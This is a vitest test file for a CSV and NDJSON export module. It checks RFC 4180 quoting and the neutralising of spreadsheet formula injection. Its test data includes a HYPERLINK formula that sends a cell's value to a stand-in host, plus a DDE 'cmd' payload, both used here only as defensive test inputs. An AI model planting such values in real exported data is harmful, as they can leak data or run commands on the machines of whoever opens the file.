import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type Cell, fileFormats } from './formats.ts';

const { CSV, NDJSON } = fileFormats;

const csvCell = (cell: Cell): string => CSV.rows(['cell'], [{ cell }]);

/** The records of a CSV text by RFC 4180, section 2, read by other means than the product's. */
function records(text: string): string[][] {
  const all: string[][] = [];
  let record: string[] = [];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  for (let match = cell.exec(text); match; match = cell.exec(text)) {
    record.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '');
    if (match[3] === ',') continue;
    all.push(record);
    record = [];
  }
  return all;
}

describe('CSV', () => {
  it('has a header row and one record a row, each ended by CRLF, in the order of the columns', () => {
    const columns = ['path', 'bytes', 'ssl', 'ratio', 'none'];
    const rows = [
      { bytes: 2n ** 64n, path: '/a,"b"\r\nc', ssl: true, ratio: 0.25, none: null },
      { bytes: 0, path: '', ssl: false, ratio: -1.5, none: null },
    ];
    expect(CSV.head(columns) + CSV.rows(columns, rows)).toBe(
      'path,bytes,ssl,ratio,none\r\n"/a,""b""\r\nc",18446744073709551616,true,0.25,\r\n,0,false,-1.5,\r\n',
    );
  });

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '\nx', '＝1', '＋1', '－1', '＠x', '=HYPERLINK("https://example.com?"&A1,"x")', '-2+3+cmd|\' /C calc\'!A0'])(
    'puts text that a spreadsheet would take for a formula behind a quote: %j',
    (text) => {
      expect(records(csvCell(text))).toEqual([[`'${text}`]]);
    },
  );

  it.each([-1, -1.5, -5n, 1e21])('leaves the number %s a number', (number) => {
    expect(csvCell(number)).toBe(`${number}\r\n`);
  });

  it('lets no cell begin as a formula and no text leave its cell, whatever it holds', () => {
    const nasty = fc.string({ unit: fc.oneof(fc.constantFrom(...'=+-@\t\r\n",;\'|a'), fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 })) });
    fc.assert(
      fc.property(nasty, nasty, (one, other) => {
        const read = records(CSV.rows(['one', 'other'], [{ one, other }]));
        expect(read).toHaveLength(1);
        expect(read[0]).toEqual([one, other].map((text) => (/^[=+\-@\t\r\n＝＋－＠]/.test(text) ? `'${text}` : text)));
      }),
    );
  });
});

describe('NDJSON', () => {
  it('has an object a line, text as it is and integers of any size', () => {
    const text = NDJSON.head(['path', 'bytes', 'ssl']) + NDJSON.rows(['path', 'bytes', 'ssl'], [{ path: '=1\n/ü', bytes: 2n ** 64n, ssl: null }, { path: '', bytes: -1, ssl: true }]);
    expect(text).toBe('{"path":"=1\\n/ü","bytes":18446744073709551616,"ssl":null}\n{"path":"","bytes":-1,"ssl":true}\n');
  });
});
